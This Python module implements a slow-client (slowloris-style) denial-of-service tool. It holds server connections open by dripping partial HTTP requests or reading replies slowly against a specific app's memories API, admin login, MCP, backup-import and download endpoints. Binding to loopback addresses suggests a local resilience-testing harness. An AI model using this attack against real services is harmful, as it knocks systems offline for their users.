"""Many slow clients in one process."""

from __future__ import annotations

import asyncio
import itertools
import socket
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.synchronize import Event

BYTE_SECONDS = 1.0
RECONNECT_SECONDS = 5.0
# Small, so that a large answer does not fit into the buffers of the two ends.
RECEIVE_BUFFER = 4096


@dataclass(frozen=True)
class Attack:
    sort: str
    host: str
    port: int
    key: str
    download: str  # the address of a job's file
    count: int
    addresses: int


@dataclass(frozen=True)
class Sort:
    head: str
    drip: bytes = b""  # sent every second
    reads_slowly: bool = False


LENGTH = "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
CHUNKED = "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n"
FORM = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nu"
HOST = "HTTP/1.1\r\nHost: localhost\r\n"
KEY = "Authorization: Bearer {key}\r\n"
EXPORT = "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
SORTS = {
    "idle": Sort(""),
    "headers": Sort(f"GET /api/v1/memories {HOST}X-Slow: ", b"a"),
    "body": Sort(f"POST /api/v1/memories {HOST}{LENGTH}", b" "),
    "chunked": Sort(f"POST /api/v1/memories {HOST}{CHUNKED}", b"1\r\n \r\n"),
    "admin": Sort(f"POST /admin/login/ {HOST}{FORM}", b"a"),
    "admin-chunked": Sort(f"POST /admin/login/ {HOST}{CHUNKED}", b"1\r\n \r\n"),
    "mcp": Sort(f"POST /mcp {HOST}{LENGTH}", b" "),
    "import": Sort(f"POST /api/v1/backup/import {HOST}{LENGTH}", b" "),
    "keyed-body": Sort(f"POST /api/v1/memories {HOST}{KEY}{LENGTH}", b" "),
    "keyed-mcp": Sort(f"POST /mcp {HOST}{KEY}{LENGTH}", b" "),
    "keyed-import": Sort(
        f"POST /api/v1/backup/import {HOST}{KEY}Content-Type: multipart/form-data; boundary=x\r\n"
        'Content-Length: 2000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="file"; '
        'filename="a.zip"\r\n\r\n',
        b"a",
    ),
    "reading": Sort(f"GET /api/v1/memories?page_size=100 {HOST}{KEY}\r\n", reads_slowly=True),
    "download": Sort(f"GET {{download}} {HOST}{KEY}\r\n", reads_slowly=True),
}  # fmt: skip


def run_attack(attack: Attack, stop: Event) -> None:
    asyncio.run(_run(attack, stop))


async def _run(attack: Attack, stop: Event) -> None:
    sort = SORTS[attack.sort]
    head = sort.head.replace("{key}", attack.key).replace("{download}", attack.download).encode()
    sources = itertools.cycle(f"127.0.0.{number + 2}" for number in range(attack.addresses))
    clients = [
        asyncio.create_task(_repeat(attack, sort, head, source, stop.is_set))
        for source, _ in zip(sources, range(attack.count), strict=False)
    ]
    while not stop.is_set():
        await asyncio.sleep(0.1)
    for client in clients:
        client.cancel()
    await asyncio.gather(*clients, return_exceptions=True)


async def _repeat(
    attack: Attack, sort: Sort, head: bytes, source: str, stopped: Callable[[], bool]
) -> None:
    loop = asyncio.get_running_loop()
    while not stopped():
        with socket.socket() as client:
            client.setblocking(False)
            if sort.reads_slowly:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
            client.bind((source, 0))
            try:
                await loop.sock_connect(client, (attack.host, attack.port))
                await loop.sock_sendall(client, head)
                await _go_on_slowly(client, sort)
            except OSError:
                pass
        await asyncio.sleep(RECONNECT_SECONDS)


async def _go_on_slowly(client: socket.socket, sort: Sort) -> None:
    """Send or read a little every second until the server disconnects."""
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(BYTE_SECONDS)
        if sort.drip:
            await loop.sock_sendall(client, sort.drip)
        if sort.reads_slowly:
            if not await loop.sock_recv(client, 1):
                return
        elif _is_answered(client):
            return


def _is_answered(client: socket.socket) -> bool:
    try:
        client.recv(65536)
    except BlockingIOError:
        return False
    return True
